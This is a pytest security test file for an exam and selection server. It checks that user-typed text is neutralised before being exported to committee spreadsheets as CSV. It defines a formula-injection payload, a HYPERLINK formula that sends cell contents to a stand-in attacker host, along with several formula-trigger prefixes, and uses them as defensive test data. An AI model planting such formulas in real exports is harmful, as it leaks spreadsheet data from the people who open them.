"""CSV/formula injection: text people type never reaches a committee's spreadsheet as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from examserver.accounts.models import User
from examserver.selection import announcements
from examserver.selection import services as selection
from examserver.selection.models import Application, SelectionPeriod
from examserver.spreadsheet import inert_cell
from tests.security.conftest import PDF, signed_in, token_of

FORMULA = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"])
def test_formula_text_is_made_inert(text):
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Siti Aminah", "SECPER-000001", "", 3.5, -2.0, None, 7])
def test_other_values_are_unchanged(value):
    assert inert_cell(value) == value


def test_a_candidates_name_in_a_published_list_is_not_a_formula(app, db_session, world, uploads):
    staff = world.member
    with app.app_context():
        db_session.get(User, world.a.id).full_name = FORMULA
        application = db_session.get(Application, world.application_a.id)
        selection.upload_document(db_session, application, "ijazah", "ijazah.pdf", PDF, uploads)
        selection.submit(db_session, application)
        for document in application.documents:
            selection.check_document(db_session, document, staff.id, accepted=False, checklist=[], reason="Tidak jelas")
        selection.decide_application(db_session, application, staff.id)
        text, _ = announcements.administrative_csv(db_session, db_session.get(SelectionPeriod, world.period.id))
    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert names == ["'" + FORMULA]


def test_a_proctors_reason_in_the_irregularities_export_is_not_a_formula(app, world):
    client = signed_in(app, world.watcher)
    response = client.post(
        f"/pengawas/sesi/{world.exam_a.id}/keputusan",
        data={"csrf_token": token_of(client), "decision": "warning", "category": "other.other", "reason": FORMULA},
    )
    assert response.status_code == 303
    export = client.get(f"/pengawas/jadwal/{world.exam_a.schedule_id}/pelanggaran.csv")
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff"))))
    reasons = [row[rows[0].index("Alasan")] for row in rows[1:]]
    assert reasons == ["'" + FORMULA]
